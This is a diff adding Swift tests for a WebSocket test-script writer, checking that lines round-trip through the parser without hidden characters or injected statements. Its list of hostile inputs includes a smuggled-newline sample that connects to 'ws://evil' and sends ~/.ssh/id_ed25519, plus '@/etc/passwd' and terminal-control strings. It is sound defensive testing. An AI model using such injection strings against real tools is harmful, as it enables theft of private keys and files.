@@ -1,0 +1,107 @@
+import MessageText
+import Testing
+import WebSocketProtocol
+
+@testable import TestScript
+
+/// Statements as lines: what is written is read as the same, or not written.
+@Suite struct ScriptWriterTests {
+    /// Text that a server, or whoever made a recording, may have chosen.
+    static let hostile = [
+        "x\nconnect ws://evil\n>file /home/me/.ssh/id_ed25519\n#", "\n> a", "\r\n> a", "\r> a", "a\n", "\n", "${HOME}",
+        "$${HOME}", "$$${", "$", "${", "a$", "${\u{301}A}", "$\u{301}{A}", " a", "a ", "\ta", "a\t", "  # comment",
+        "a  # b",
+        "\"a  # b\"", "\"a  # b", "a\t#", "#", "# a", "== name", "@bob > a", "/ pong", "\0", "\u{1B}[2J", "\u{9B}2J",
+        "\u{7F}", "\u{85}", "\u{2028}> a", "\u{2029}> a", "\u{202E}abc", "\u{2066}a", "\u{200B}", "a\u{200D}b",
+        "\u{FEFF}a",
+        "\u{AD}", "\u{A0}", "\u{3000}a", "\u{301}", " \u{301}", "\u{301}  # b", "e\u{301}", "é", "\\", "\\n", "\"",
+        "\"\"",
+        "\"\u{301}", "'", "👩‍🚀", "❤️", "\u{E0041}", "\u{10FFFF}", "\u{FFFE}", "",
+        "a" + String(repeating: "\u{301}", count: 50),
+        "~(a", "{\"a\":1}", "{", "[1]", "*", "<json {}", "string \"a\"", "1000", "300ms", "json", "-", "@/etc/passwd",
+    ]
+
+    /// The statements that a line of a script is read as, behind a connection; nil when a line is wrong.
+    private func read(_ line: String) -> [Statement]? {
+        ScriptParser.tests(in: "connect ws://h/\n" + line + "\n> end\n", side: .client).map { tests in
+            tests.flatMap(\.statements)
+        }
+    }
+
+    private func steps(with text: String) -> [Step] {
+        let literal = Template(literal: text)
+        let templates = [literal] + [try? Template(text)].compactMap { $0 }
+        return templates.flatMap { template -> [Step] in
+            [
+                .send(.text(template)), .expect(.exact(.text(template))), .send(.hex(template)),
+                .send(.file(template, asBinary: true)), .expect(.exact(.file(template, asBinary: false))),
+                .expect(.json(template)), .expect(.regex(template)), .skip(to: .exact(.text(template))),
+                .skip(to: .regex(template)), .skip(to: .json(template)), .ping(template), .expectPing(template),
+                .close(.normalClosure, reason: template), .expectClose(CloseCode(rawValue: 4000), reason: template),
+                .expectClose(nil, reason: template), .connect(template),
+            ] + ConnectionOption.allCases.map { .option($0, template) }
+        }
+    }
+
+    @Test("A line that is written is read as the statement that it was written for", arguments: hostile)
+    func roundTrip(text: String) throws {
+        for step in steps(with: text) {
+            for connection in ["", "bob", text] {
+                guard let line = try? ScriptWriter.line(step, on: connection) else { continue }
+                let hidden = line.unicodeScalars.filter(VisibleText.mustBeVisible)
+                #expect(hidden.isEmpty, "\(line)")
+                let statements = try #require(read(line), "\(line)")
+                // A `connect` without a name begins another test.
+                #expect(statements.count == 3, "\(line)")
+                #expect(statements.dropFirst().first?.step == step, "\(line)")
+                #expect(statements.dropFirst().first?.connection == connection, "\(line)")
+            }
+        }
+    }
+
+    @Test("Every text message can be written", arguments: hostile)
+    func messages(text: String) throws {
+        let template = Template(literal: text)
+        for step in [Step.send(.text(template)), .expect(.exact(.text(template)))] {
+            let line = try ScriptWriter.line(step)
+            #expect(read(line)?.dropFirst().first?.step == step, "\(line)")
+        }
+    }
+
+    @Test("No variable comes out of a text without variables", arguments: hostile)
+    func variables(text: String) throws {
+        let template = Template(literal: text)
+        #expect(template.variables == [])
+        #expect(try Template(template.source) == template)
+        let line = try ScriptWriter.line(.send(.text(template)))
+        #expect(try #require(read(line)).flatMap(\.step.templates).flatMap(\.variables) == [])
+    }
+
+    @Test("Times, codes and statements without a value")
+    func others() throws {
+        let rows: [(Step, String)] = [
+            (.timeout(.milliseconds(300)), "timeout 300ms"), (.wait(.seconds(2)), "wait 2000ms"),
+            (.expectSilence(.microseconds(1500)), "<! 0.0015s"), (.expectPong(within: nil), "pong"),
+            (.expectPong(within: .seconds(1)), "pong 1000ms"), (.expectClose(nil, reason: nil), "<close"),
+            (.close(.normalClosure, reason: Template(literal: "")), "close 1000"),
+            (.option(.insecure, nil), "insecure"),
+        ]
+        for (step, line) in rows { #expect(try ScriptWriter.line(step) == line) }
+        let unwritable: [Step] = [
+            .close(CloseCode(rawValue: 1005), reason: Template(literal: "")),
+            .option(.insecure, Template(literal: "a")),
+            .option(.header, nil), .connect(Template(literal: "")), .connect(Template(literal: "ws://h/\n> a")),
+            .timeout(.seconds(-1)), .send(.text(Template(literal: String(repeating: "a", count: 5 << 20)))),
+        ]
+        for step in unwritable {
+            #expect(throws: ScriptWriter.Unwritable.self, "\(step)") { try ScriptWriter.line(step) }
+        }
+    }
+
+    @Test("A comment stays a comment, on its line", arguments: hostile)
+    func comments(text: String) {
+        let line = ScriptWriter.comment(text)
+        #expect(read(line)?.count == 2, "\(line)")
+        #expect(!line.unicodeScalars.contains(where: VisibleText.mustBeVisible), "\(line)")
+    }
+}
